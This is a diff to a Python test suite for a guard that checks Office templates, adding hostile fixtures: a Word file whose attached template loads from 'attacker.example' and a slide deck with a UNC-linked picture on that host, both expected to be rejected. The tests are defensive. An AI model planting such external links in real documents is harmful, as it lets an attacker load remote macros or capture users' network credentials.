@@ -173,6 +173,33 @@ def _macro_type(tmp: Path) -> Path:
     return rezip(PPTX_DEFAULT, tmp / "renamed-pptm.pptx", {"[Content_Types].xml": types})
 
 
+def _add_rel(rels: bytes, rel_type: str, target: str) -> bytes:
+    from lxml import etree
+
+    root = etree.fromstring(rels)
+    etree.SubElement(root, f"{{{root.nsmap[None]}}}Relationship", Id="rIdLink", TargetMode="External",
+                     Type=f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rel_type}",
+                     Target=target)
+    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
+
+
+def _remote_attached_template(tmp: Path) -> Path:
+    rels = "word/_rels/settings.xml.rels"
+    with zipfile.ZipFile(DOCX_DEFAULT) as package:
+        has = rels in package.namelist()
+    empty = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
+    data = _add_rel(part(DOCX_DEFAULT, rels) if has else empty, "attachedTemplate",
+                    "http://attacker.example/normal.dotm")
+    return rezip(DOCX_DEFAULT, tmp / "injected.docx", {rels: data} if has else {}, {} if has else {rels: data})
+
+
+def _unc_linked_picture(tmp: Path) -> Path:
+    rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
+    data = _add_rel(part(PPTX_DEFAULT, rels), "image", "\\\\attacker.example\\share\\logo.png")
+    return rezip(PPTX_DEFAULT, tmp / "unc.pptx", {rels: data})
+
+
 def _write(name: str, data: bytes) -> Maker:
     def make(tmp: Path) -> Path:
         (tmp / name).write_bytes(data)
@@ -213,6 +240,8 @@ HOSTILE: list[tuple[str, str, Maker, str]] = [
     ("dangling-relationship", "deck", _dangling, "missing"),
     ("malformed-xml", "deck", lambda t: rezip(PPTX_DEFAULT, t / "broken.pptx", {"ppt/presentation.xml": b"<p:pres"}),
      "not well-formed"),
+    ("remote-attached-template", "doc", _remote_attached_template, "on another computer"),
+    ("unc-linked-picture", "deck", _unc_linked_picture, "on another computer"),
     ("word-file-as-deck", "deck", lambda t: _write("draft.pptx", DOCX_DEFAULT.read_bytes())(t), "not a"),
     ("deck-as-word-file", "doc", lambda t: _write("deck.docx", PPTX_DEFAULT.read_bytes())(t), "not a"),
     ("wrong-suffix", "deck", lambda t: _write("deck.pdf", PPTX_DEFAULT.read_bytes())(t), "not a"),
@@ -305,6 +334,14 @@ def test_templates_are_accepted_and_build(
     assert deck_text(deck).strip() and draft_text(draft).strip()
     assert b"template.main+xml" not in part(deck, "[Content_Types].xml")
     assert (potx.read_bytes(), dotx.read_bytes()) == partner_files  # the partner's files are only read
+
+
+def test_external_hyperlinks_and_local_links_are_fine(tmp_path: Path) -> None:
+    rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
+    linked = _add_rel(part(PPTX_DEFAULT, rels), "hyperlink", "https://www.northeastlep.co.uk/")
+    check_template(rezip(PPTX_DEFAULT, tmp_path / "hyperlink.pptx", {rels: linked}), "pptx")
+    local = _add_rel(part(PPTX_DEFAULT, rels), "image", "file:///C:/Pictures/logo.png")
+    check_template(rezip(PPTX_DEFAULT, tmp_path / "local.pptx", {rels: local}), "pptx")
 
 
 def test_real_templates_pass_the_guard(pandoc_reference: Callable[[str], Path], tmp_path: Path,
